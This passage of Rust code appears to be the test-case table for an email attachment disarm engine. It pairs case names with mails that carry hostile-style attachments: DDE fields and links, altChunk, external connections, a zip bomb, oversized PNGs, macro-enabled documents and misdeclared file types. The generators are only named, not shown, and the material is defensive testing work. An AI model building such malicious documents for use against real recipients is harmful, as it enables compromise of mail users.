                "pdf-links",
                &[("links.pdf", "application/pdf", pdf_uri_links())],
            ),
        ),
        (
            "disarm_docx_alt_chunk",
            mail(
                "altchunk",
                &[(
                    "plan.docx",
                    "application/vnd.openxmlformats-officedocument.wordprocessingml.document",
                    docx_alt_chunk(),
                )],
            ),
        ),
        (
            "disarm_docx_dde_fields",
            mail(
                "dde-fields",
                &[(
                    "notice.docx",
                    "application/vnd.openxmlformats-officedocument.wordprocessingml.document",
                    docx_dde_fields(),
                )],
            ),
        ),
        (
            "disarm_xlsx_dde_links",
            mail(
                "dde-links",
                &[(
                    "budget.xlsx",
                    "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet",
                    xlsx_dde_links(),
                )],
            ),
        ),
        (
            "disarm_xlsx_connections",
            mail(
                "connections",
                &[(
                    "sales.xlsx",
                    "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet",
                    xlsx_connections(),
                )],
            ),
        ),
        (
            "disarm_pdf_encrypted",
            mail(
                "pdf-encrypted",
                &[("secret.pdf", "application/pdf", pdf_encrypted())],
            ),
        ),
        (
            "disarm_pdf_corrupt",
            mail(
                "pdf-corrupt",
                &[("broken.pdf", "application/pdf", pdf_corrupt())],
            ),
        ),
        (
            "disarm_zip_bomb_docx",
            mail(
                "bomb",
                &[(
                    "report.docx",
                    "application/vnd.openxmlformats-officedocument.wordprocessingml.document",
                    zip_bomb_docx(),
                )],
            ),
        ),
        (
            "disarm_png_huge_dimensions",
            mail("png-huge", &[("huge.png", "image/png", png_huge())]),
        ),
        (
            "disarm_time_limit",
            mail(
                "slow",
                &[(
                    "report.docm",
                    "application/vnd.ms-word.document.macroEnabled.12",
                    docm(),
                )],
            ),
        ),
        (
            "disarm_off_by_default",
            mail(
                "off",
                &[
                    ("photo.png", "image/png", png_with_metadata()),
                    ("form.pdf", "application/pdf", pdf_active()),
                ],
            ),
        ),
        (
            "disarm_type_from_content",
            mail(
                "misnamed",
                &[
                    // Named and declared as a PDF, but a PNG: disarmed as what it is.
                    ("invoice.pdf", "application/pdf", png_with_metadata()),
                    // Named and declared as a PNG, but a PDF, whose disarm is not allowed here.
                    ("photo.png", "image/png", pdf_active()),
                ],
            ),
        ),
    ]
}
